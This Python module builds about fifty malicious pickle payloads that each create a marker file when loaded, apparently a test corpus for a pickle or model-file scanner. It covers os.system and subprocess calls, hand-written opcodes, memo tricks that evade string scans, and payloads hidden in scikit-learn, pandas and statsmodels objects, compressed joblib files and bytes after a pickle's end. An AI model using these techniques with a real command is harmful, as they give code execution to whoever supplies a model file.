"""Pickles that execute something when loaded; each would create a marker file.

Run as a program, this module loads all of them.
"""

from __future__ import annotations

import bz2
import copyreg
import gzip
import io
import lzma
import pickle
import sys
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import joblib
import numpy as np
import pandas as pd


class Calls:
    """An object whose pickle calls `function` with `arguments`."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __call__(self) -> None:
        """Required, because pickle checks that the object is callable."""

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.function, self.arguments


def named(module: str, name: str) -> Any:
    """Return a global by its name, which may be dotted."""
    __import__(module)
    value: Any = sys.modules[module]
    for part in name.split("."):
        value = getattr(value, part)
    return value


def call(module: str, name: str, *arguments: Any) -> bytes:
    return pickle.dumps(Calls(named(module, name), *arguments))


def joblib_bytes(payload: Any) -> bytes:
    file = io.BytesIO()
    joblib.dump(payload, file)
    return file.getvalue()


def text(string: str) -> bytes:
    return b"\x8c" + bytes([len(string)]) + string.encode()


def stacked(module: str, name: str, argument: str) -> bytes:
    """Protocol 4 by hand: a global of two strings, which may be dotted, called with a text."""
    return b"\x80\x04" + text(module) + text(name) + b"\x93" + text(argument) + b"\x85R."


def by_memo(argument: str) -> bytes:
    """Take the names of the global from the memo, where a scan for adjacent strings does not find them."""
    return b"\x80\x04" + text("system") + b"\x940" + text("os") + b"\x940" + b"h\x01h\x00\x93" + text(argument) + b"\x85R."


def estimator_with(evil: Any) -> Any:
    from sklearn.linear_model import LogisticRegression

    model = LogisticRegression().fit(np.arange(8.0).reshape(4, 2), [0, 1, 0, 1])
    model.coef_ = evil
    return model


def formula(code: str) -> bytes:
    """Return a statsmodels result whose formula is Python code, evaluated while unpickling."""
    import statsmodels.formula.api as smf

    frame = pd.DataFrame({"y": [0.0, 1.0, 0.5, 2.0], "x": [1.0, 2.0, 3.0, 5.0]})
    result = smf.ols("y ~ x", frame).fit()
    result.model.formula = result.model.data.formula = f"y ~ x + I({code})"
    return pickle.dumps(result)


class FrameWithEval:
    """A frame whose `eval` a stacking model would call with column names as code."""

    def __reduce__(self) -> Any:
        state = pd.DataFrame({"a": [1.0]}).__getstate__()
        state["_cmp_method"] = slice
        return copyreg._reconstructor, (pd.DataFrame, object, None), state  # type: ignore[attr-defined]


def stacked_frame(command: str) -> Any:
    """Use only globals of scikit-learn and pandas: estimators whose attributes misuse their own code."""
    from sklearn.ensemble import StackingClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler

    names = np.array([f"@np.f2py.os.system({command!r})"], dtype=object)
    first = StandardScaler()
    first.__dict__.update(n_features_in_=1, feature_names_in_=names, mean_=np.zeros(1), scale_=np.ones(1), transform=list)
    second = StackingClassifier(estimators=[("x", LogisticRegression())], final_estimator=LogisticRegression())
    final = LogisticRegression().fit([[0], [1]], [0, 1])
    second.__dict__.update(
        estimators_=[FrameWithEval()],
        stack_method_=["eval"],
        classes_=np.array([0, 1]),
        passthrough=False,
        final_estimator_=final,
    )
    return Pipeline([("a", first), ("b", second)])


def payloads(folder: Path) -> dict[str, bytes]:
    """Return every payload with the marker `folder/<name>`."""
    return {name: payload(str(folder / name)) for name, payload in PAYLOADS.items()}


def touch(marker: str) -> str:
    return f"touch {marker}"


def code(marker: str) -> str:
    return f"open({marker!r}, 'w').close()"


def system(marker: str) -> Calls:
    return Calls(named("os", "system"), touch(marker))


PAYLOADS: dict[str, Callable[[str], bytes]] = {
    "os-system": lambda m: pickle.dumps(system(m)),
    "protocol-0": lambda m: f"cos\nsystem\n(V{touch(m)}\ntR.".encode(),
    "protocol-0-inst": lambda m: f"(V{touch(m)}\nios\nsystem\n.".encode(),
    "protocol-1-obj": lambda m: f"(csubprocess\nPopen\n(V/bin/sh\nV-c\nV{touch(m)}\nlo.".encode(),
    "protocol-2": lambda m: pickle.dumps(system(m), protocol=2),
    "posix-system": lambda m: call("posix", "system", touch(m)),
    "popen": lambda m: call("os", "popen", touch(m)),
    "spawn": lambda m: call("os", "spawnlp", 0, "touch", "touch", m),
    "mkdir": lambda m: call("os", "mkdir", m),
    "os-open": lambda m: call("os", "open", m, 0o102),
    "subprocess-run": lambda m: call("subprocess", "run", ["touch", m]),
    "subprocess-popen": lambda m: call("subprocess", "Popen", ["touch", m]),
    "exec": lambda m: call("builtins", "exec", code(m)),
    "eval": lambda m: call("builtins", "eval", code(m)),
    "open": lambda m: call("builtins", "open", m, "w"),
    "io-open": lambda m: call("_io", "open", m, "w"),
    "compile": lambda m: pickle.dumps(Calls(exec, Calls(compile, code(m), "x", "exec"))),
    "import": lambda m: pickle.dumps(Calls(Calls(getattr, Calls(__import__, "os"), "system"), touch(m))),
    "import-module": lambda m: pickle.dumps(
        Calls(Calls(getattr, Calls(named("importlib", "import_module"), "os"), "system"), touch(m))
    ),
    "builtins-by-name": lambda m: pickle.dumps(
        Calls(Calls(named("operator", "getitem"), Calls(vars, Calls(__import__, "builtins")), "eval"), code(m))
    ),
    "map": lambda m: pickle.dumps(Calls(list, Calls(map, named("os", "system"), [touch(m)]))),
    "starmap": lambda m: pickle.dumps(Calls(list, Calls(named("itertools", "starmap"), named("os", "system"), [(touch(m),)]))),
    "partial": lambda m: pickle.dumps(Calls(Calls(named("functools", "partial"), named("os", "system"), touch(m)))),
    "attrgetter": lambda m: pickle.dumps(
        Calls(Calls(Calls(named("operator", "attrgetter"), "system"), Calls(__import__, "os")), touch(m))
    ),
    "methodcaller": lambda m: pickle.dumps(
        Calls(Calls(named("operator", "methodcaller"), "system", touch(m)), Calls(__import__, "os"))
    ),
    "path-touch": lambda m: pickle.dumps(Calls(named("pathlib", "Path.touch"), Path(m))),
    "timeit": lambda m: call("timeit", "timeit", code(m), "pass", named("time", "perf_counter"), 1),
    "profile": lambda m: call("cProfile", "run", code(m), m + ".prof"),
    "interpreter": lambda m: pickle.dumps(
        Calls(named("code", "InteractiveInterpreter.runsource"), Calls(named("code", "InteractiveInterpreter")), code(m))
    ),
    "debugger": lambda m: pickle.dumps(Calls(named("bdb", "Bdb.run"), Calls(named("bdb", "Bdb")), code(m))),
    "numpy-runstring": lambda m: call("numpy.testing._private.utils", "runstring", code(m), {}),
    "pandas-to-csv": lambda m: pickle.dumps(Calls(named("pandas", "DataFrame.to_csv"), pd.DataFrame({"a": [1]}), m)),
    "numpy-save": lambda m: pickle.dumps(Calls(named("numpy", "ndarray.tofile"), np.arange(3), m)),
    "joblib-dump": lambda m: call("joblib", "dump", 1, m),
    "a-pickle-inside": lambda m: call("pickle", "loads", pickle.dumps(system(m))),
    "through-joblib": lambda m: stacked("joblib.numpy_pickle", "os.system", touch(m)),
    "through-shutil": lambda m: stacked("shutil", "os.system", touch(m)),
    "through-pandas": lambda m: stacked("pandas.io.common", "os.mkdir", m),
    "through-numpy": lambda m: stacked("numpy.testing._private.utils", "os.system", touch(m)),
    "by-memo": lambda m: by_memo(touch(m)),
    "object-array": lambda m: pickle.dumps(np.array([system(m), 1], dtype=object)),
    "object-array-joblib": lambda m: joblib_bytes(np.array([system(m), 1], dtype=object)),
    "a-frame": lambda m: pickle.dumps(pd.DataFrame({"a": [system(m)]})),
    "in-an-estimator": lambda m: pickle.dumps(estimator_with(system(m))),
    "in-an-estimator-joblib": lambda m: joblib_bytes(estimator_with(np.array([system(m)], dtype=object))),
    "in-an-estimator-deep": lambda m: pickle.dumps(
        estimator_with([{"a": (1, [Calls(Calls(named("functools", "partial"), named("os", "system"), touch(m)))])}])
    ),
    "a-key": lambda m: pickle.dumps({"a": 1, "b": [system(m)]}),
    "zlib": lambda m: zlib.compress(joblib_bytes(system(m))),
    "gzip": lambda m: gzip.compress(joblib_bytes(system(m))),
    "bz2": lambda m: bz2.compress(joblib_bytes(system(m))),
    "xz": lambda m: lzma.compress(joblib_bytes(system(m))),
    "lzma": lambda m: lzma.compress(joblib_bytes(system(m)), format=lzma.FORMAT_ALONE),
    "statsmodels-formula": lambda m: formula(f"__import__('os').system('touch {m}') + x"),
    "stacked-frame": lambda m: pickle.dumps(stacked_frame(touch(m))),
    "after-the-end": lambda m: pickle.dumps(estimator_with(np.ones((1, 2))))[:-1] + b"0" + pickle.dumps(system(m))[2:],
}


def load(data: bytes) -> None:
    """Load without checks and predict, as a careless program would."""
    model = joblib.load(io.BytesIO(data))
    if hasattr(model, "predict_proba"):
        model.predict_proba(pd.DataFrame({name: [0.0] for name in model.feature_names_in_}))


if __name__ == "__main__":
    for payload in payloads(Path(sys.argv[1])).values():
        try:
            load(payload)
        except BaseException as error:
            print(type(error).__name__, error, file=sys.stderr)
